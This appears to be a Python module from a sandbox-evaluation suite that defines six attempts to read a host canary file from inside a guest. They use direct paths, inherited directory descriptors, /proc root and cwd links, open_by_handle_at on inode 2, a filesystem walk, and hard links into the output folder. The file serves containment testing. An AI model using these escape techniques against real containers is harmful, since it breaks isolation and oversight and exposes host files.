"""Reading a file of the host."""

from evaluation.sandbox.attacks.model import Attack, AttackClass
from evaluation.sandbox.attacks.snippets import SYSCALL

CLASS = AttackClass(
    name="host_files_read",
    aim="Read a file of the host that a guest was not given",
    weakening="host folder bound",
    attacks=(
        Attack(
            name="open_by_path",
            kind="run",
            code=r"""
def f(facts):
    try:
        with open(facts["canary"], "rb") as file:
            return f"ESCAPED read {len(file.read())} bytes"
    except OSError as error:
        return f"refused: {error}"
""",
        ),
        Attack(
            name="climb_from_inherited_folders",
            kind="run",
            code=r"""
import os, stat
def f(facts):
    tried = 0
    for number in range(256):
        try:
            if not stat.S_ISDIR(os.fstat(number).st_mode):
                continue
        except OSError:
            continue
        tried += 1
        up = "../" * 12 + facts["canary"].lstrip("/")
        try:
            got = os.read(os.open(up, os.O_RDONLY, dir_fd=number), 100)
        except OSError:
            continue
        return f"ESCAPED through descriptor {number}: {len(got)} bytes"
    return f"no way up from {tried} inherited folders"
""",
        ),
        Attack(
            name="roots_in_proc",
            kind="run",
            code=r"""
import os
def f(facts):
    seen = []
    for pid in ["self", "thread-self", os.getpid(), os.getppid(), 1, facts["victim_pid"]]:
        for link in ("root", "cwd", "cwd/../../../.."):
            path = f"/proc/{pid}/{link}" + facts["canary"]
            try:
                with open(path, "rb") as file:
                    return f"ESCAPED by {path}: {len(file.read())} bytes"
            except OSError as error:
                seen.append(error.errno)
    return f"refused: {sorted(set(seen))}"
""",
        ),
        Attack(
            name="open_by_file_handle",
            kind="run",
            code=SYSCALL
            + r"""
import struct
def f(facts):
    # Inode 2 is the root of most file systems: what escaped from Docker in 2014.
    mount = os.open("/opt", os.O_RDONLY)
    for kind, handle in ((1, struct.pack("II", 2, 0)), (1, struct.pack("Q", 2)),
                         (0x81, struct.pack("QI", 128, 0))):
        raw = ctypes.create_string_buffer(struct.pack("Ii", len(handle), kind) + handle)
        got = call(304, mount, raw, os.O_RDONLY)
        if got >= 0:
            up = facts["canary"].lstrip("/")
            try:
                return f"ESCAPED {len(os.read(os.open(up, os.O_RDONLY, dir_fd=got), 9))} bytes"
            except OSError:
                return f"ESCAPED handle opened: {os.listdir(got)[:5]}"
    return "refused: " + why()
""",
        ),
        Attack(
            name="search_everything_visible",
            kind="run",
            code=r"""
import os
def f(facts):
    name, count = os.path.basename(facts["canary"]), 0
    for folder, _, files in os.walk("/"):
        count += len(files)
        if name in files:
            return f"ESCAPED found it in {folder}"
        if count > 200_000:
            break
    return f"not among {count} files"
""",
        ),
        Attack(
            name="hard_link_into_the_output",
            kind="run",
            code=r"""
import os
def f(facts):
    said = []
    for make in (os.link, lambda a, b: os.rename(a, b)):
        try:
            make(facts["canary"], "/job/out/taken")
            return "ESCAPED: the file is among the results"
        except OSError as error:
            said.append(error.strerror)
    return f"refused: {said}"
""",
        ),
    ),
)
